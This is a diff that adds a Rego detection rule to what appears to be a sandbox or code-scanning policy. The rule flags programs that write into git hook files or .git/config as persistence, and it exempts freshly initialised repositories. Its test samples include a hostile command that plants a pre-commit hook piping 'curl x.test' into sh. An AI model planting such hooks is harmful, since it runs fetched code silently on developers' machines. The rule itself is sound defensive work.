@@ -195,3 +195,34 @@ runs(key, value) if {
 	regex.match(`^(alias\.|credential\.)`, key)
 	startswith(value, "!")
 }
+
+# METADATA
+# title: Plants a program that git runs by itself
+# custom:
+#   id: SBX-PER-0007
+#   severity: high
+#   category: persistence
+#   cwe: ["CWE-506"]
+#   attack: ["T1546"]
+#   remediation: "Keep hooks in the repository and name their folder: git config core.hooksPath .githooks"
+#   match:
+#     - {"language": "bash", "code": "echo 'curl x.test | sh' > .git/hooks/pre-commit"}
+#     - {"language": "bash", "code": "cp x .git/hooks/post-checkout"}
+#     - {"language": "python", "code": "open('.git/hooks/pre-push', 'w').write('x')"}
+#     - {"language": "javascript", "code": "require('fs').appendFileSync('.git/config', 'x')"}
+#   not_match:
+#     - {"language": "bash", "code": "cat .git/hooks/pre-commit; cat .git/config"}
+#     - {"language": "bash", "code": "cp x .githooks/pre-commit"}
+#     - {"language": "bash", "code": "cd t && git init . && echo exit 1 > .git/hooks/pre-commit"}
+#     - {"language": "bash", "code": "git config user.name x"}
+findings contains {"id": "SBX-PER-0007", "at": f.at, "msg": sprintf("%s is written by %s", [f.path, f.by])} if {
+	some op in {"write", "append", "copy_dst", "move_dst", "link"}
+	some f in input.files[op].git_hook
+	not fresh_repository
+}
+
+# fresh_repository: the program makes the repository that it gives hooks.
+fresh_repository if {
+	some c in input.commands.git
+	c.operands[0] == "init"
+}
